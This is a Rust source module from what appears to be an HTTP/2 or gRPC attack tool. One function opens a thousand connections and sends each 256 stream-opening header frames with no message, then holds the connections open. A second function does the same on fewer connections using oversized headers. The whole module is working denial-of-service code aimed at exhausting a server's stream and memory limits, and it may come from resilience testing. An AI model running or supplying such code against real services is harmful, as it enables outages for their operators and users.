//! Streams that are opened and abandoned.

use tokio::io::AsyncWriteExt;

use super::bodies::hold;
use super::crowd::{Attacking, crowd};
use crate::frames::{WINDOW, call, flag, frame, kind};
use crate::peer::{connect_h2, source};
use crate::target::Target;

const CONNECTIONS: u32 = 1000;
const STREAMS: usize = 256;
/// One field of a large header list.
const FIELD_BYTES: usize = 4000;

/// On each of a thousand connections 256 calls without a message.
pub(super) fn open_streams(target: Target) -> Attacking {
    crowd(CONNECTIONS, move |number| async move {
        let mut stream = connect_h2(source(number), target.grpc, WINDOW).await?;
        let block = call(&[]);
        let mut out = Vec::new();
        for id in (1..).step_by(2).take(STREAMS) {
            frame(&mut out, kind::HEADERS, flag::END_HEADERS, id, &block);
        }
        stream.write_all(&out).await?;
        hold(&mut stream).await
    })
}

/// The same on fewer connections, with headers just below the usual limit.
pub(super) fn large_headers(target: Target) -> Attacking {
    crowd(100, move |number| async move {
        let mut stream = connect_h2(source(number), target.grpc, WINDOW).await?;
        let value = vec![b'x'; FIELD_BYTES];
        let block = call(&[(b"a", &value), (b"b", &value), (b"c", &value)]);
        let mut out = Vec::new();
        for id in (1..).step_by(2).take(STREAMS) {
            frame(&mut out, kind::HEADERS, flag::END_HEADERS, id, &block);
        }
        stream.write_all(&out).await?;
        hold(&mut stream).await
    })
}
